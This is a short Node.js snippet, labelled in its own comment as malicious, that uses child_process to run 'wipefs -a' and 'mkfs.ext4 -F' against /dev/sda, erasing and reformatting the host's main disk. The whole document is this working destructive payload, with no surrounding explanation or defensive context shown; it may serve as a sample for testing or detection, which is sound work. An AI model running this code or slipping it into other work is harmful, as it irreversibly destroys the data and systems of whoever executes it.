// Malicious: wipes and reformats the host disk through child_process.
const cp = require('child_process');
cp.execSync('wipefs -a /dev/sda && mkfs.ext4 -F /dev/sda');
